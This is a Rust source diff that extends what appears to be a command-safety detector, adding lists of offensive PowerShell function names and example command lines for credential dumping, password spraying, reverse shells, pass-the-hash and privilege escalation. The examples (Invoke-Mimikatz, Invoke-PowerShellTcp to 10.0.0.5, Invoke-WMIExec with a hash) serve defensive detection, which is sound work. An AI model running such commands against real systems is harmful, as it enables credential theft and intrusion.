@@ -90,6 +90,90 @@ pub const AD_ATTACKS: &[Program] = &[
         clean: &["python3 ./trevorspray --recon evilcorp.com", "python3 o365spray.py --validate --domain example.com"],
         ..P
     },
+    // Session 65 (spn, SofianeHamlaoui/Pentest-Notes): the offensive
+    // PowerShell kits' functions, run by name once their script is
+    // dot-sourced or imported (`Invoke-Mimikatz`, `comps |
+    // Invoke-BruteForce ...`), passed unasked, in bash and in `pwsh -c`.
+    // Their enumeration functions (PowerView's Get-Domain*, PowerUp's
+    // Invoke-AllChecks) are left out, as impacket's are.
+    Program {
+        names: &[
+            "invoke-mimikatz", "invoke-kerberoast", "invoke-dcsync", "get-gppautologon",
+            "get-lsasecret", "get-passhashes", "invoke-powerdump", "get-vaultcredential",
+            "invoke-ninjacopy", "invoke-credentialinjection", "invoke-inveigh", "invoke-inveighrelay",
+            "invoke-sessiongopher", "invoke-wcmdump", "get-wlan-keys", "invoke-internalmonologue",
+            "out-minidump", "invoke-mimikittenz", "get-chromedump", "invoke-rubeus", "invoke-lazagne",
+            "invoke-asreproast", "get-domainspnticket", "get-keystrokes", "invoke-sharpsecdump",
+            "get-webcredentials", "get-lapspasswords", "invoke-tokenmanipulation",
+        ],
+        source: "https://github.com/PowerShellMafia/PowerSploit (Exfiltration: Invoke-Mimikatz, Invoke-NinjaCopy, Get-GPPAutologon, Get-VaultCredential, Get-Keystrokes, Out-Minidump, Invoke-TokenManipulation, Invoke-CredentialInjection; Recon: Invoke-Kerberoast, Get-DomainSPNTicket), https://github.com/samratashok/nishang (Gather: Get-LSASecret, Get-PassHashes, Invoke-PowerDump, Get-WLAN-Keys, Get-WebCredentials, Invoke-Mimikittenz, Get-ChromeDump), https://github.com/Kevin-Robertson/Inveigh, https://github.com/Arvanaghi/SessionGopher, https://github.com/eladshamir/Internal-Monologue, https://github.com/EmpireProject/Empire (Invoke-DCSync, Invoke-Rubeus, Invoke-WCMDump), https://github.com/HarmJ0y/ASREPRoast, https://github.com/kfosaaen/Get-LAPSPasswords; ATT&CK T1003, T1555, T1558, T1056.001",
+        subs: &[Sub { words: &["!-h|--help|-?"], harm: Credential, level: High, reason: "runs an offensive PowerShell function that dumps, roasts, sniffs or steals credentials" }],
+        flagged: &[
+            "Invoke-Mimikatz -Command '\"sekurlsa::logonpasswords\"'",
+            "powershell -c \"Invoke-Mimikatz -DumpCreds\"",
+            "Invoke-Kerberoast -OutputFormat Hashcat | fl",
+            "pwsh -c Invoke-Kerberoast",
+            "Get-PassHashes",
+            "Invoke-Inveigh -ConsoleOutput Y",
+        ],
+        clean: &["Invoke-Mimikatz -?"],
+        ..P
+    },
+    Program {
+        names: &[
+            "invoke-bruteforce", "invoke-smbautobrute", "invoke-domainpasswordspray",
+            "invoke-sprayemptypassword", "invoke-passwordsprayowa", "invoke-passwordsprayews",
+            "invoke-passwordsprayeas", "invoke-spraysinglepassword", "invoke-ldapspray",
+        ],
+        source: "https://github.com/samratashok/nishang (Scan: Invoke-BruteForce), https://github.com/Mr-Un1k0d3r/RedTeamPowershellScripts (Invoke-SMBAutoBrute), https://github.com/dafthack/DomainPasswordSpray, https://github.com/dafthack/MailSniper (Invoke-PasswordSprayOWA, -EWS, -EAS), https://github.com/ZeroPointSecurity tradecraft (Invoke-SpraySinglePassword); ATT&CK T1110",
+        subs: &[Sub { words: &["!-h|--help|-?"], harm: Credential, level: Medium, reason: "guesses passwords against accounts (a brute force or password spray)" }],
+        flagged: &[
+            "comps | Invoke-BruteForce -UserList C:\\dict\\users.txt -PasswordList C:\\dict\\passwords.txt -Service SQL -Verbose",
+            "Invoke-DomainPasswordSpray -Password Winter2024",
+            "Invoke-PasswordSprayOWA -ExchHostname mail.corp.com -UserList users.txt -Password Spring2024",
+        ],
+        clean: &["Invoke-DomainPasswordSpray -?"],
+        ..P
+    },
+    Program {
+        names: &[
+            "invoke-powershelltcp", "invoke-powershelltcponeline", "invoke-powershelludp",
+            "invoke-powershellicmp", "invoke-powershellwmi", "invoke-wmiexec", "invoke-smbexec",
+            "invoke-thehash", "invoke-dcom", "invoke-shellcode", "invoke-reflectivepeinjection",
+            "invoke-dllinjection", "invoke-psinject", "invoke-conptyshell", "invoke-sqloscmd",
+            "invoke-psexec", "invoke-wmicommand", "invoke-smbclient", "invoke-jsratrundll",
+            "invoke-jsratregsvr",
+        ],
+        source: "https://github.com/samratashok/nishang (Shells: Invoke-PowerShellTcp, -TcpOneLine, -Udp, -Icmp, -Wmi, Invoke-JSRatRundll, -Regsvr), https://github.com/Kevin-Robertson/Invoke-TheHash (Invoke-WMIExec, Invoke-SMBExec, Invoke-SMBClient, Invoke-TheHash: pass the hash), https://github.com/EmpireProject/Empire (Invoke-DCOM, Invoke-PsExec, Invoke-PSInject), https://github.com/PowerShellMafia/PowerSploit (CodeExecution: Invoke-Shellcode, Invoke-ReflectivePEInjection, Invoke-DllInjection, Invoke-WmiCommand), https://github.com/antonioCoco/ConPtyShell, https://github.com/NetSPI/PowerUpSQL (Invoke-SQLOSCmd); ATT&CK T1059.001, T1021, T1055, T1550.002",
+        subs: &[Sub { words: &["!-h|--help|-?"], harm: RemoteCode, level: High, reason: "runs an offensive PowerShell function that opens a shell, runs code on another host or injects code into a process" }],
+        flagged: &[
+            "Invoke-PowerShellTcp -Reverse -IPAddress 10.0.0.5 -Port 4444",
+            "Invoke-WMIExec -Target 10.0.0.1 -Domain corp -Username admin -Hash F6F38B793DB6A94BA04A52F1D3EE92F0 -Command whoami",
+            "powershell -ep bypass -c \"Invoke-ConPtyShell 10.0.0.5 3001\"",
+        ],
+        clean: &["Invoke-PowerShellTcp -?"],
+        ..P
+    },
+    Program {
+        names: &[
+            "invoke-serviceabuse", "write-servicebinary", "install-servicebinary", "write-hijackdll",
+            "write-useraddmsi", "invoke-eventvwrbypass", "invoke-printnightmare", "invoke-nightmare",
+            "add-domainobjectacl", "add-domaingroupmember", "set-domainuserpassword",
+            "set-domainobject", "new-machineaccount", "add-persistence", "add-scrnsavebackdoor",
+            "add-regbackdoor", "install-ssp", "new-userpersistenceoption",
+            "new-elevatedpersistenceoption", "set-remotewmi", "add-remoteregbackdoor",
+            "invoke-fodhelperbypass", "invoke-wscriptbypassuac",
+        ],
+        source: "https://github.com/PowerShellMafia/PowerSploit (Privesc/PowerUp: Invoke-ServiceAbuse, Write-ServiceBinary, Install-ServiceBinary, Write-HijackDll, Write-UserAddMSI; Recon/PowerView: Add-DomainObjectAcl, Add-DomainGroupMember, Set-DomainUserPassword, Set-DomainObject; Persistence: Install-SSP, New-UserPersistenceOption, New-ElevatedPersistenceOption), https://github.com/samratashok/nishang (Add-Persistence, Add-ScrnSaveBackdoor, Add-RegBackdoor, Set-RemoteWMI, Add-RemoteRegBackdoor, Invoke-WScriptBypassUAC), https://github.com/EmpireProject/Empire (Invoke-EventVwrBypass, Invoke-FodHelperBypass), https://github.com/calebstewart/CVE-2021-1675 (Invoke-Nightmare), https://github.com/Kevin-Robertson/Powermad (New-MachineAccount); ATT&CK T1543.003, T1574, T1548.002, T1098, T1547.005",
+        subs: &[Sub { words: &["!-h|--help|-?"], harm: SelfEscalation, level: High, reason: "runs an offensive PowerShell function that escalates privileges, changes accounts' rights or plants persistence" }],
+        flagged: &[
+            "Invoke-ServiceAbuse -Name VulnSvc -UserName backdoor",
+            "Add-DomainObjectAcl -TargetIdentity 'DC=corp,DC=local' -PrincipalIdentity user -Rights DCSync",
+            "Invoke-Nightmare -NewUser john -NewPassword 'P@ss'",
+        ],
+        clean: &["Invoke-ServiceAbuse -?"],
+        ..P
+    },
     Program {
         names: &["changepasswd", "samedit", "badsuccessor", "raisechild", "privexchange", "wmipersist"],
         source: "impacket examples (changepasswd: an account's password changed or reset; samedit: a local user's password replaced in the SAM hive; badsuccessor: dMSA abuse; raiseChild: a child domain's admin raised to the forest's; wmipersist: a WMI event consumer that runs a script), https://github.com/dirkjanm/PrivExchange; ATT&CK T1098, T1546.003, T1484",
